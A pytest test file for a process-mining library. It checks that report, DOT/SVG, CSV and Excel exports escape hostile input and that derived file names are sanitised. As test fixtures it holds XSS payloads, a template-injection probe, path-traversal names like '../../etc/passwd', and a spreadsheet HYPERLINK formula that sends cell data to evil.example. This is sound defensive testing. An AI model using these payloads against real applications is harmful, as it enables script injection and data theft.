"""Safe outputs (issue 8, point 4): every string from the input is escaped in HTML, SVG and DOT;
CSV/Excel cells starting with = + - @ tab or CR are neutralised; file names derived from input
values are sanitised."""
from __future__ import annotations

import csv
import html
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import tthc_mining as tm
from tthc_mining import schema as S
from tthc_mining.export import (neutralise_formulas, safe_filename, safe_sheet_name, write_table,
                                write_workbook)

SCRIPT = "<script>alert(1)</script>"
QUOTES = 'Thẩm "định" \\ ]; <b>x</b> & {{7*7}}'
SVG = '"><svg onload=alert(2)>'
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"x")'
IMG = "-2+3 <img src=x onerror=alert(3)>"
RAW = ("<script", "<svg onload", "<img src=x", "<b>x</b>")
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile():
    """The synthetic province with hostile names for an activity, a unit, an officer, a
    procedure name and a reason."""
    p = tm.synth.province(150, seed=5)
    ev = p.log.events.copy()

    def rename(col, old, new):
        cats = list(ev[col].cat.categories)
        ev[col] = ev[col].cat.rename_categories({cats[cats.index(old) if old in cats else 0]: new})

    rename(S.ACTIVITY, "Thẩm định hồ sơ", SCRIPT)
    rename(S.ACTIVITY, "Phê duyệt", QUOTES)
    rename(S.GROUP, ev[S.GROUP].cat.categories[1], SVG)
    rename(S.RESOURCE, ev[S.RESOURCE].cat.categories[0], FORMULA)
    rename(S.PROCEDURE_NAME, ev[S.PROCEDURE_NAME].cat.categories[0], IMG)
    ev[S.REASON] = ev[S.REASON].cat.add_categories(["@SUM(A1:A2)"]).fillna("@SUM(A1:A2)")
    log = tm.DossierLog(events=ev, quality=p.log.quality, calendar=p.log.calendar,
                        catalog=p.catalog, source="<b>hostile</b>.csv")
    assert (ev[S.ACTIVITY] == SCRIPT).any() and (ev[S.GROUP] == SVG).any()
    return log


def _no_raw_markup(text: str, where: str) -> None:
    for bad in RAW:
        assert bad not in text, f"{bad!r} unescaped in {where}"


@pytest.fixture(scope="module")
def report(hostile):
    return tm.report(hostile, n_boot=100)


def test_report_html_escapes_every_input_string(report, tmp_path):
    page = Path(report.save(tmp_path / "r.html")).read_text(encoding="utf-8")
    _no_raw_markup(page, "report.html")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page       # shown as text
    assert "{{7*7}}" in page or "{{7*7}}" in html.unescape(page)  # no template evaluation
    assert "alert(1)" in html.unescape(page)
    assert "<script" not in page.lower()                         # the page runs no script


def test_html_reprs_escape(hostile):
    texts = {"quality": hostile.quality._repr_html_(), "log": hostile._repr_html_(),
             "summary": tm.summary(hostile)._repr_html_(),
             "map": tm.discover(hostile)._repr_html_(),
             "handovers": tm.handovers(hostile)._repr_html_(),
             "rework": tm.rework(hostile)._repr_html_(),
             "bottlenecks": tm.bottlenecks(hostile)._repr_html_(),
             "overdue": tm.overdue_attribution(hostile)._repr_html_(),
             "conformance": tm.conformance(hostile)._repr_html_()}
    for name, text in texts.items():
        _no_raw_markup(text, name)
    assert "&lt;script&gt;" in texts["log"] and "&lt;b&gt;hostile" in texts["log"]


def test_dot_sources_escape_and_render(hostile):
    pm = tm.discover(hostile)
    dots = {"frequency": pm.to_dot(), "performance": pm.to_dot(kind="performance"),
            "handovers": tm.handovers(hostile).to_dot()}
    # HTML-like labels (<...>): markup escaped
    for name in ("frequency", "performance"):
        _no_raw_markup(dots[name], name)
    assert "&lt;script&gt;" in dots["frequency"]
    # quoted labels ("..."): the unit's quote is escaped, so it cannot close the DOT string
    ho = dots["handovers"]
    assert '\\"><svg onload=alert(2)>' in ho
    assert re.search(r'(?<!\\)"><svg', ho) is None
    from tthc_mining.render import has_dot
    if not has_dot():
        pytest.skip("graphviz 'dot' is not installed")
    for name, svg in (("map", pm.render(format="svg")),
                      ("handovers", tm.handovers(hostile).render(format="svg"))):
        svg = svg.decode() if isinstance(svg, bytes) else svg
        _no_raw_markup(svg, name + ".svg")
        assert "<script" not in svg.lower() and "onload=" not in svg.replace("onload=alert", "")
        assert "alert(1)" in html.unescape(svg) or name == "handovers"


def _xlsx_cells(path: Path):
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


def _check_workbook(path: Path) -> int:
    n = 0
    for sheet, cell in _xlsx_cells(path):
        assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
        v = cell.value
        if isinstance(v, str) and v.startswith(TRIGGERS):
            pytest.fail(f"{path.name}/{sheet}!{cell.coordinate} starts a formula: {v!r}")
        if isinstance(v, str) and v.startswith("'") and v[1:2] in TRIGGERS:
            n += 1
    # and no formula element at all in the sheets' XML
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    return n


def _check_csv(path: Path) -> int:
    text = path.read_bytes().decode("utf-8-sig")
    n = 0
    for row in csv.reader(io.StringIO(text, newline="")):
        for v in row:
            if v.startswith(TRIGGERS):
                try:
                    float(v)
                except ValueError:
                    pytest.fail(f"{path.name}: cell starts a formula: {v!r}")
            if v.startswith("'") and v[1:2] in TRIGGERS:
                n += 1
    return n


def test_csv_and_excel_exports_neutralise_formulas(hostile, report, tmp_path):
    neutralised = {
        "log.csv": _check_csv(tm.write_log(hostile, tmp_path / "log.csv")),
        "onestop.csv": _check_csv(tm.write_log(hostile, tmp_path / "onestop.csv", layout="onestop")),
        "log.xlsx": _check_workbook(tm.write_log(hostile, tmp_path / "log.xlsx", layout="onestop")),
        "table.csv": _check_csv(write_table(hostile.events.head(300), tmp_path / "table.csv")),
        "book.xlsx": _check_workbook(write_workbook({"a/b[1]": hostile.events.head(300)},
                                                    tmp_path / "book.xlsx")),
        "report.xlsx": _check_workbook(Path(report.save(tmp_path / "report.xlsx"))),
    }
    for name in ("log.csv", "onestop.csv", "log.xlsx", "table.csv", "book.xlsx"):
        assert neutralised[name] > 0, name      # the hostile officer and reason were there
    # the written text reads back to the same values (neutralised cells lose only the quote)
    back = tm.read_log(tmp_path / "onestop.csv")
    assert set(back.events[S.RESOURCE].dropna()) >= {"'" + FORMULA}
    assert SCRIPT in set(back.events[S.ACTIVITY])


def test_neutralise_formulas_rules():
    df = pd.DataFrame({"a": ["=1+1", "+84 912", "-x", "@SUM", "\tcmd", "\rcmd", "-3.5", "+7",
                             "ok", None, "'=already"],
                       "=col": [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11]})
    out = neutralise_formulas(df)
    got = [None if pd.isna(v) else v for v in out["a"]]
    assert got == ["'=1+1", "'+84 912", "'-x", "'@SUM", "'\tcmd", "'\rcmd", "-3.5",
                   "+7", "ok", None, "'=already"]
    assert list(out.columns) == ["a", "'=col"]
    assert df["a"].iloc[0] == "=1+1"            # the input is not changed


@pytest.mark.parametrize("raw,want", [
    ("../../etc/passwd", "etc_passwd"),
    ("a/b\\c:d*e?f\"g<h>i|j", "a_b_c_d_e_f_g_h_i_j"),
    ("CON", "_CON"), ("nul.txt", "_nul.txt"), ("COM1", "_COM1"),
    ("  .hidden", "hidden"), (".bashrc", "bashrc"), ("-rf", "rf"), ("_x", "x"),
    ("Sở Tư pháp – 2.001610", "Sở Tư pháp – 2.001610"),
    ("Nguye\u0302\u0303n", "Nguyễn"),
    ("\x1b[31mred\x00", "[31mred_"), ("a\u202eb", "a_b"),
    ("", "output"), (None, "output"), ("...", "output"), ("name. ", "name"),
])
def test_safe_filename(raw, want):
    got = safe_filename(raw)
    assert got == want
    assert "/" not in got and "\\" not in got and ".." not in got


def test_safe_filename_length_and_containment(tmp_path):
    long = "Thủ tục " * 100
    name = safe_filename(long)
    assert len(name.encode()) <= 120 and name.encode().decode() == name
    for raw in ["../x", "/abs/path", "..\\..\\win", "a/../../b", "~/.ssh/id"]:
        p = (tmp_path / (safe_filename(raw) + ".html")).resolve()
        assert p.parent == tmp_path.resolve()


def test_safe_sheet_name():
    assert safe_sheet_name("a/b[1]:*?") == "a_b_1____"
    assert safe_sheet_name("History") == "History_"
    assert safe_sheet_name("'quoted'") == "quoted"
    assert safe_sheet_name("x" * 40) == "x" * 31
    assert safe_sheet_name("Data", ["data"]) == "Data (2)"
    assert safe_sheet_name("y" * 40, ["y" * 31, "y" * 27 + " (2)"]) == "y" * 27 + " (3)"
    assert safe_sheet_name("") == "Sheet"
